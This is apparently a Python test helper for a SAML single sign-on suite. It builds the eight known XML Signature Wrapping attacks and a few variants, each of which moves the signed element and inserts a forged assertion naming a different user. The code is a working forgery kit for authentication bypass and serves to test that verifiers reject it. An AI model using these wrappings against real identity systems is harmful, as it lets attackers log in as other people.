"""Signature wrapping: the signed element stays somewhere in the document, the attacker's stands where it may be read.

``xsw1`` to ``xsw8`` are the eight of the literature; each is a hook for ``Recipe.after_signing``. The first two take a
signed Response, the others a signed assertion as its last child.
"""

from __future__ import annotations

from copy import deepcopy

from lxml import etree

from tests.sso_saml.forge import DS, SAML, TreeHook, samlp


def ds(parent: etree._Element, name: str, **attributes: str) -> etree._Element:
    return etree.SubElement(parent, f"{{{DS}}}{name}", attributes)


def find(element: etree._Element, name: str, ns: str = SAML) -> etree._Element:
    found = element.find(f".//{{{ns}}}{name}")
    assert found is not None
    return found


def signature_of(element: etree._Element) -> etree._Element:
    found = element.find(f"{{{DS}}}Signature")
    assert found is not None
    return found


def evil_copy(element: etree._Element) -> etree._Element:
    """The element with other IDs and another person in it, without its own signature."""
    evil = deepcopy(element)
    evil.remove(signature_of(evil))
    find(evil, "NameID").text = "mallory@acme.example"
    for part in evil.iter(element.tag, f"{{{SAML}}}Assertion"):
        part.set("ID", f"_evil{part.get('ID')}")
    return evil


def as_response(response: etree._Element, evil: etree._Element) -> None:
    """Make ``response`` (the root, which lxml cannot replace) the evil one."""
    for name, value in evil.attrib.items():
        response.set(name, value)
    response[:] = list(evil)


def xsw1(response: etree._Element) -> None:
    """Evil Response; its signature holds the signed Response."""
    evil, honest = evil_copy(response), deepcopy(response)
    signature = signature_of(honest)
    honest.remove(signature)
    signature.append(honest)
    evil.insert(1, signature)
    as_response(response, evil)


def xsw2(response: etree._Element) -> None:
    """Evil Response; the signed Response stands before the signature."""
    evil, honest = evil_copy(response), deepcopy(response)
    signature = signature_of(honest)
    honest.remove(signature)
    evil.insert(1, signature)
    evil.insert(1, honest)
    as_response(response, evil)


def xsw3(response: etree._Element) -> None:
    """Evil assertion before the signed one."""
    response.insert(2, evil_copy(response[-1]))


def xsw4(response: etree._Element) -> None:
    """The signed assertion inside the evil one."""
    evil = evil_copy(response[-1])
    evil.append(response[-1])
    response.append(evil)


def xsw5(response: etree._Element) -> None:
    """The signed assertion changed; a copy of it as it was, without the signature, at the end."""
    honest = deepcopy(response[-1])
    honest.remove(signature_of(honest))
    find(response[-1], "NameID").text = "mallory@acme.example"
    response[-1].set("ID", "_evil")
    response.append(honest)


def xsw6(response: etree._Element) -> None:
    """As 5, with the copy inside the signature."""
    xsw5(response)
    signature_of(response[-2]).append(response[-1])


def xsw7(response: etree._Element) -> None:
    """Evil assertion in Extensions."""
    extensions = samlp(response, "Extensions")
    extensions.append(evil_copy(response[-2]))
    response.insert(1, extensions)


def xsw8(response: etree._Element) -> None:
    """As 6, inside an Object of the signature."""
    xsw5(response)
    ds(signature_of(response[-2]), "Object").append(response[-1])


def same_id(wrapping: TreeHook) -> TreeHook:
    def edit(response: etree._Element) -> None:
        wrapping(response)
        for element in response.iter(f"{{{SAML}}}Assertion"):
            element.set("ID", "_assertion1")

    return edit


def hidden_as(name: str) -> TreeHook:
    """Evil assertion in place, the signed one under another name, so that only one is counted."""

    def edit(response: etree._Element) -> None:
        evil = evil_copy(response[-1])
        evil.insert(1, signature_of(response[-1]))
        response[-1].tag = name
        extensions = samlp(response, "Extensions")
        extensions.append(response[-2])
        response.append(evil)

    return edit


def encrypted_wrapping(response: etree._Element) -> None:
    """Evil plain assertion beside an encrypted one."""
    response.append(etree.Element(f"{{{SAML}}}EncryptedAssertion"))
